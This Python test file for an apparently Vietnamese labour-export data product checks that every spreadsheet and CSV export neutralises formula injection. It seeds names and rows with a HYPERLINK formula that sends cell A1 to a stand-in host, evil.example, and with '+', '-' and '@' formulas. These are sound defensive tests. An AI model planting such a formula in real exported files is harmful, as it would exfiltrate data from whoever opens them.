"""Every spreadsheet and CSV the product writes keeps a formula-looking text inert.

A value such as ``=HYPERLINK("http://…","GP")`` (a licensed company's name, a commune's name, a
refused cell) is put where each writer takes user text; the file that comes out is then read
back: in an XLSX no cell is a formula and there is no hyperlink, and the text is kept exactly; in
a CSV no field starts with ``=``, ``+``, ``-`` or ``@`` (the text is kept after an apostrophe).
A last test searches the code for a writer that does not go through :mod:`xkld_geo.text.sheets`.
"""
from __future__ import annotations

import csv
import datetime as dt
import io
import re
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook

from xkld_geo.access import auth
from xkld_geo.figures import export, references
from xkld_geo.intake import ingest, kinds
from xkld_geo.planning import annex, plans
from xkld_geo.release import site as release_site
from xkld_geo.reporting import emulation
from xkld_geo.settings import PROJECT_ROOT, Settings
from xkld_geo.text import sheets
from xkld_geo.text.markup import FORMULA_START

EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"GP")'
OTHERS = ("+1+1", "-2+3", "@SUM(A1:A9)")


def inert_xlsx(data: bytes, expected: tuple[str, ...] = (EVIL,)) -> None:
    """No formula, no hyperlink in any sheet; each of ``expected`` is there as text."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            body = archive.read(name)
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                assert b"<f>" not in body and b"<f " not in body and b"<hyperlink" not in body, name
            assert b"relationships/hyperlink" not in body, name
    book = load_workbook(io.BytesIO(data))
    texts = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.add(cell.value)
    for text in expected:
        assert text in texts, (text, sorted(texts)[:20])


def _number(field: str) -> bool:
    """A plain number (``-3.5``): a spreadsheet reads it as that number, nothing runs."""
    return re.fullmatch(r"-?\d+(\.\d+)?", field) is not None


def inert_csv(data: bytes, expected: tuple[str, ...] = (EVIL,)) -> None:
    """No field a spreadsheet would run; each of ``expected`` is there after an apostrophe."""
    fields = [f for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for f in row]
    assert fields and not [f for f in fields if f.startswith(FORMULA_START) and not _number(f)]
    for text in expected:
        assert "'" + text in fields, text


def test_the_writer_itself() -> None:
    frame = pd.DataFrame({EVIL: [EVIL, *OTHERS, None, 5, -3.5, "", "bình thường"]})
    inert_xlsx(sheets.xlsx_bytes({"Bảng": frame}), (EVIL, *OTHERS))
    inert_csv(sheets.csv_bytes(frame), (EVIL, *OTHERS))
    back = pd.read_csv(io.BytesIO(sheets.csv_bytes(frame)), encoding="utf-8-sig", keep_default_na=False, dtype=str)
    assert list(back.iloc[5:, 0]) == ["5", "-3.5", "", "bình thường"]   # numbers stay numbers, empty stays empty
    inert_csv(sheets.csv_rows([["Tên"], [EVIL]]))


def test_the_open_data_release(tiny_con, tmp_path: Path) -> None:
    """The red team's case: a licensed company saved as a formula, then ``publish``."""
    firms = references.read(tiny_con, "companies")
    row = {c: None for c in firms.columns} | {"licence_no": "GP-999", "name": EVIL, "province_code": "99",
                                                "markets": "JP"}
    references.save(tiny_con, "companies", pd.concat([firms, pd.DataFrame([row])], ignore_index=True),
                    auth.User("qt", "Quản trị", "admin"))
    result = release_site.publish(tiny_con, tmp_path / "out", dt.date(2026, 3, 15), 5)
    folder = tmp_path / "out" / "releases" / result.version / "data"
    inert_xlsx((folder / "companies.xlsx").read_bytes())
    inert_csv((folder / "companies.csv").read_bytes())
    for path in folder.iterdir():                            # every other table of the release too
        if path.suffix == ".xlsx":
            inert_xlsx(path.read_bytes(), ())
        elif path.suffix == ".csv":
            inert_csv(path.read_bytes(), ())


def test_the_thi_dua_proposal() -> None:
    table = pd.DataFrame({"STT": [1], "Đơn vị": [EVIL], "Điểm": [91.5], "Xếp loại": ["Xuất sắc"],
                          "Hình thức đề nghị": ["Bằng khen"], "Lý do": ["@SUM(A1:A9)"]})
    inert_xlsx(emulation.proposal_xlsx(table, EVIL), (EVIL, "@SUM(A1:A9)"))


def test_the_ranking_export() -> None:
    table = pd.DataFrame({"Mã": ["99001"], "Tên": [EVIL], "Ghi chú": ["+1+1"]})
    inert_xlsx(export.ranking_xlsx(table, EVIL, True), (EVIL, "+1+1", "99001"))


def test_the_plan_annex(tiny_con) -> None:
    tiny_con.execute("UPDATE admin_units SET name = $n WHERE era = '2025' AND code = '99001'", {"n": EVIL})
    base = plans.base_table(tiny_con, 2026, "99")
    params = plans.Params(60, floor=2, cap_pct=None)
    quotas = dict(zip(base["code"], plans.propose(base, params)["proposed"].astype(int)))
    planner, admin = auth.User("kh", "Kế hoạch", "planner"), auth.User("qt", "Quản trị", "admin")
    pid, _ = plans.save_draft(tiny_con, year=2026, province="99", name="P", params=params, quotas=quotas,
                              user=planner)
    plans.submit(tiny_con, pid, planner)
    plans.approve(tiny_con, pid, admin)
    inert_xlsx(annex.annex_xlsx(tiny_con, pid, "=Tỉnh"), (EVIL,))
    inert_csv(annex.annex_csv(tiny_con, pid))


def test_the_rejection_files(history_con, history_db: Settings) -> None:
    report = ("Tháng,Mã xã,Tên xã/phường,Thị trường,Giới tính,Hình thức,Số người\n"
              f'02/2026,99001,"{EVIL.replace(chr(34), chr(34) * 2)}",KR,+nu,dn,x\n').encode()
    done = ingest.import_file(history_con, report, "xau.csv", "departures", "test", history_db)
    assert done.rejected == 1
    inert_xlsx(done.rejects_xlsx(), (EVIL, "+nu"))
    inert_csv(done.rejects_csv(), (EVIL, "+nu"))


@pytest.mark.parametrize("key", list(kinds.KINDS))
def test_the_templates(key: str) -> None:
    inert_xlsx(kinds.template_xlsx(key), ())
    inert_csv(kinds.template_csv(key), ())


WRITERS = re.compile(r"\.to_csv\(|\.to_excel\(|ExcelWriter\(|xlsxwriter\.Workbook\(|\bWorkbook\(\)|csv\.writer\(")


def test_no_writer_outside_the_one_module() -> None:
    """Every spreadsheet or CSV is written by xkld_geo.text.sheets: a new ``to_csv`` elsewhere fails here."""
    strays = []
    for path in sorted((PROJECT_ROOT / "xkld_geo").rglob("*.py")) + sorted((PROJECT_ROOT / "pages").glob("*.py")):
        if path.name == "sheets.py":
            continue
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1):
            if WRITERS.search(line):
                strays.append(f"{path.relative_to(PROJECT_ROOT)}:{number}: {line.strip()}")
    assert not strays, strays
